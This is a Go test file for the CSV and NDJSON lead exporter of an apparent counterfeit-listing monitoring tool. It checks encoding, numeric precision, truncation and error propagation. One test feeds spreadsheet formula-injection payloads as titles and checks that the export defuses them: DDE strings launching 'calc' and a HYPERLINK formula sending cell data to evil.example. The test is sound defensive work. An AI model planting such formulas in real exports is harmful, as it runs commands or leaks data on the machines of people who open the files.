package leads_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"iter"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/markwatch/markwatch"
	"github.com/markwatch/markwatch/leads"
)

func sequence(list ...markwatch.Lead) iter.Seq2[markwatch.Lead, error] {
	return func(yield func(markwatch.Lead, error) bool) {
		for _, l := range list {
			if !yield(l, nil) {
				return
			}
		}
	}
}

func export(t *testing.T, format string, list ...markwatch.Lead) []byte {
	t.Helper()
	f, err := leads.FormatByName(format)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := f.Write(&b, sequence(list...)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// table reads a CSV export as an independent program would: header to value,
// a map a line.
func table(t *testing.T, data []byte) []map[string]string {
	t.Helper()
	data, ok := bytes.CutPrefix(data, []byte("\ufeff"))
	if !ok {
		t.Error("no byte order mark: Excel will not read it as UTF-8")
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var lines []map[string]string
	for _, row := range rows[1:] {
		line := map[string]string{}
		for i, header := range rows[0] {
			line[header] = row[i]
		}
		lines = append(lines, line)
	}
	return lines
}

// plain takes the marks of a cell off.
func plain(s string) string { return strings.TrimSuffix(strings.TrimPrefix(s, "'"), "\t") }

func fullLead(t *testing.T) markwatch.Lead {
	t.Helper()
	price, err := markwatch.ParseMoney("199.00", "CNY")
	if err != nil {
		t.Fatal(err)
	}
	seen := time.Date(2026, 11, 3, 18, 13, 7, 0, time.UTC)
	return markwatch.Lead{
		Number: "2026-0412", ID: "taobao-737912345678901234", Status: markwatch.LeadConfirmed, Assignee: "张敏", Tags: []string{"重点", "莆田"},
		Note: "已核价", FirstSeen: seen, LastSeen: seen.Add(18 * 24 * time.Hour), Seen: 7,
		Listing: markwatch.Listing{
			ID: "taobao-737912345678901234", Source: "taobao", Platform: "taobao", ItemID: "737912345678901234", SKU: "0001.10",
			URL: "https://item.taobao.example/item.htm?id=737912345678901234", Title: "「耐 克」空军一号 莆田纯原",
			Price: &price, PriceText: "券后¥199起", Sales: 12000, SalesText: "1.2万+人付款", ShipsFrom: "福建莆田",
			Seller:   &markwatch.Seller{ID: "0087", Name: "鞋坊小李", Region: "福建莆田", License: "91350300MA2Y0000XX", Contacts: []string{"微信 abc123"}},
			Snapshot: "2026/11/21.warc.gz#<urn:uuid:1>",
		},
		Verdict: markwatch.Verdict{
			ID: "taobao-737912345678901234", Score: 0.94, Flagged: true, At: seen, Knowledge: "brands@12 works@3 lexicons@2 rules@7 rates@2026-11-20",
			Violations: map[markwatch.Violation]markwatch.ViolationVerdict{
				"counterfeit": {Score: 0.94, Flagged: true}, "fake-overseas": {Score: 0.6, Flagged: true}, "piracy": {Score: 0.1},
			},
			Findings: []markwatch.Finding{
				{Matcher: "pricing", Rule: "below-floor", Violation: "counterfeit", Subject: "nike", Score: 0.9,
					Reason:   markwatch.Text{ZH: "标价199元,仅为官方价799元的25%", EN: "…"},
					Evidence: []markwatch.Evidence{{Field: "title", Span: &markwatch.Span{Start: 1, End: 4}, Text: "耐 克", Role: markwatch.RoleSubject}, {Field: "price", Text: "199.00 CNY"}}},
				{Matcher: "wording", Rule: "replica", Violation: "counterfeit", Subject: "nike", Score: 0.7,
					Reason:   markwatch.Text{ZH: "行话「纯原」", EN: "…"},
					Evidence: []markwatch.Evidence{{Field: "title", Span: &markwatch.Span{Start: 12, End: 14}, Text: "纯原"}}},
			},
		},
	}
}

func TestCSVHoldsTheRecord(t *testing.T) {
	got := table(t, export(t, "csv", fullLead(t)))[0]
	want := map[string]string{
		"线索编号": "2026-0412\t", "状态": "已确认", "可疑度": "0.94", "违法类型": "仿冒、假海淘", "涉及品牌或作品": "nike",
		"可疑理由": "标价199元,仅为官方价799元的25%\n行话「纯原」", "证据引文": "price:「199.00 CNY」\ntitle:「耐 克」「纯原」",
		"平台": "taobao", "来源": "taobao", "网址": "https://item.taobao.example/item.htm?id=737912345678901234",
		"商品编号": "737912345678901234\t", "规格编号": "0001.10\t", "标题": "「耐 克」空军一号 莆田纯原",
		"价格": "199.00", "币种": "CNY", "页面价格": "券后¥199起", "划线价": "", "销量(下限)": "12000", "页面销量": "1.2万+人付款",
		"发货地": "福建莆田", "店铺名称": "鞋坊小李", "店铺编号": "0087\t", "店铺网址": "", "店铺地区": "福建莆田",
		"统一社会信用代码": "91350300MA2Y0000XX", "联系方式": "微信 abc123",
		"首次发现": "2026-11-04T02:13:07+08:00", "最近发现": "2026-11-22T02:13:07+08:00", "发现次数": "7",
		"承办人": "张敏", "排除原因": "", "标签": "重点、莆田", "备注": "已核价", "网页存档": "2026/11/21.warc.gz#<urn:uuid:1>",
		"判定时间": "2026-11-04T02:13:07+08:00", "判定依据版本": "brands@12 works@3 lexicons@2 rules@7 rates@2026-11-20",
		"商品标识": "taobao-737912345678901234",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("line (-want +got):\n%s", diff)
	}
}

// TestCSVSurvivesHostileTexts: what a page says must come back whole, and
// nothing of it may be computed or become another number in a spreadsheet.
func TestCSVSurvivesHostileTexts(t *testing.T) {
	for name, text := range map[string]string{
		"formula":            `=cmd|'/C calc'!A0`,
		"plus":               "+86 138 0000 0000",
		"minus":              "-2+3+cmd|' /C calc'!A0",
		"at":                 "@SUM(1+1)*cmd|' /C calc'!A0",
		"hyperlink":          `=HYPERLINK("https://evil.example?x="&A1,"点我")`,
		"full-width equals":  "=1+1",
		"full-width plus":    "+1",
		"full-width at":      "@SUM(A1)",
		"blank before":       "  =1+1",
		"zero-width before":  "\u200b=1+1",
		"tab before":         "\t=1+1",
		"line break before":  "\n=1+1",
		"apostrophe before":  "'already",
		"long number":        "737912345678901234",
		"leading zeros":      "000123",
		"exponent":           "12E17",
		"date":               "2-3",
		"Chinese date":       "5月3日",
		"trailing zero":      "1.10",
		"quotes and commas":  `他说"正品",真的`,
		"lines":              "第一行\n第二行",
		"emoji":              "👟🔥 耐克 👨‍👩‍👧",
		"semicolon":          "a;b",
		"tab within":         "a\tb",
		"right-to-left mark": "\u202e=1+1",
	} {
		t.Run(name, func(t *testing.T) {
			lead := fullLead(t)
			lead.Listing.Title = text
			got := table(t, export(t, "csv", lead, fullLead(t)))
			if len(got) != 2 || got[1]["标题"] != fullLead(t).Listing.Title {
				t.Fatalf("the next line is hurt: %q", got)
			}
			title := got[0]["标题"]
			if plain(title) != text {
				t.Errorf("%q comes back as %q", text, title)
			}
			trimmed := strings.TrimLeft(title, " \u200b\u202e\n")
			if r := []rune(trimmed)[0]; strings.ContainsRune("=+-@=+-@\t\r", r) {
				t.Errorf("%q is open to computing", title)
			}
		})
	}
	for in, want := range map[string]string{
		"a\r\nb\rc":           "a\nb\nc",
		"bell\a and null\x00": "bell and null",
		"broken \xff":         "broken \ufffd",
		"\r=1+1":              "'\n=1+1",
		"end\t":               "end",
	} {
		lead := fullLead(t)
		lead.Listing.Title = in
		if got := table(t, export(t, "csv", lead))[0]["标题"]; got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
}

func TestCSVNumbersStayNumbersOnlyWhereExcelKeepsThem(t *testing.T) {
	for amount, want := range map[string]string{
		"199.00": "199.00", "0.01": "0.01", "12345678": "12345678",
		"123456789012345678.00": "123456789012345678.00\t", "-3.10": "'-3.10", "0.1234567890123456789": "0.1234567890123456789\t",
	} {
		price, err := markwatch.ParseMoney(amount, "CNY")
		if err != nil {
			t.Fatal(err)
		}
		lead := fullLead(t)
		lead.Listing.Price = &price
		if got := table(t, export(t, "csv", lead))[0]["价格"]; got != want {
			t.Errorf("%s became %q, want %q", amount, got, want)
		}
	}
}

func TestCSVCutsWhatExcelWould(t *testing.T) {
	lead := fullLead(t)
	lead.Listing.Title = strings.Repeat("长", 100_000)
	got := []rune(table(t, export(t, "csv", lead))[0]["标题"])
	if len(got) > 32_767 || !strings.HasSuffix(string(got), "全文见 NDJSON 导出)") {
		t.Errorf("%d characters, ending in %q", len(got), string(got[len(got)-20:]))
	}
}

func TestCSVOfALeadThatHoldsNothing(t *testing.T) {
	if got := table(t, export(t, "csv", markwatch.Lead{})); len(got) != 1 || got[0]["价格"] != "" || got[0]["首次发现"] != "" {
		t.Errorf("got %q", got)
	}
	if got := table(t, export(t, "csv")); len(got) != 0 {
		t.Errorf("no leads give %q", got)
	}
}

func TestNDJSONIsTheLeadItself(t *testing.T) {
	lead := fullLead(t)
	lead.Listing.Title = "<b>&\u2028 line\nbreak 👟"
	data := export(t, "ndjson", lead, lead)
	lines := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d lines", len(lines))
	}
	for _, line := range lines {
		var got markwatch.Lead
		if err := json.Unmarshal([]byte(line), &got); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(lead, got); diff != "" {
			t.Errorf("lead (-want +got):\n%s", diff)
		}
	}
}

// TestEveryFormat runs each format of the registry, and fails for a file of
// this package that writes leads and is not in it.
func TestEveryFormat(t *testing.T) {
	var names []string
	for _, f := range leads.Formats() {
		names = append(names, f.Name)
		if f.Extension != "."+f.Name || f.ContentType == "" || f.Write == nil {
			t.Errorf("%+v is not whole", f)
		}
		if found, err := leads.FormatByName(strings.ToUpper(f.Name)); err != nil || found.Name != f.Name {
			t.Errorf("%s is not found: %v", f.Name, err)
		}
		broken := errors.New("disk")
		failing := func(yield func(markwatch.Lead, error) bool) {
			_ = yield(markwatch.Lead{}, nil) && yield(markwatch.Lead{}, broken)
		}
		if err := f.Write(io.Discard, failing); !errors.Is(err, broken) {
			t.Errorf("%s hides a failure of the sequence: %v", f.Name, err)
		}
		if err := f.Write(fullDisk{}, sequence(fullLead(t))); !errors.Is(err, io.ErrShortWrite) {
			t.Errorf("%s hides a failure of the writer: %v", f.Name, err)
		}
	}
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(string(data), "\n") {
			if rest, ok := strings.CutPrefix(line, "func write"); ok && strings.Contains(rest, "iter.Seq2[markwatch.Lead, error]") {
				name, _, _ := strings.Cut(rest, "(")
				if !slices.Contains(names, strings.ToLower(name)) {
					t.Errorf("%s: write%s is in no line of Formats", file, name)
				}
			}
		}
	}
}

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, io.ErrShortWrite }

func TestUnknownFormat(t *testing.T) {
	for name, nearest := range map[string]string{"cvs": "csv", "jsonl": "ndjson", "json": "ndjson", "nd-json": "ndjson"} {
		_, err := leads.FormatByName(name)
		if markwatch.ErrorCode(err) != markwatch.CodeInvalid || !strings.Contains(err.Error(), "是否指 \""+nearest+"\"") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func BenchmarkFormats(b *testing.B) {
	lead := fullLead(&testing.T{})
	for _, f := range leads.Formats() {
		b.Run(f.Name, func(b *testing.B) {
			b.ReportAllocs()
			endless := func(yield func(markwatch.Lead, error) bool) {
				for b.Loop() {
					if !yield(lead, nil) {
						return
					}
				}
			}
			if err := f.Write(io.Discard, endless); err != nil {
				b.Fatal(err)
			}
		})
	}
}
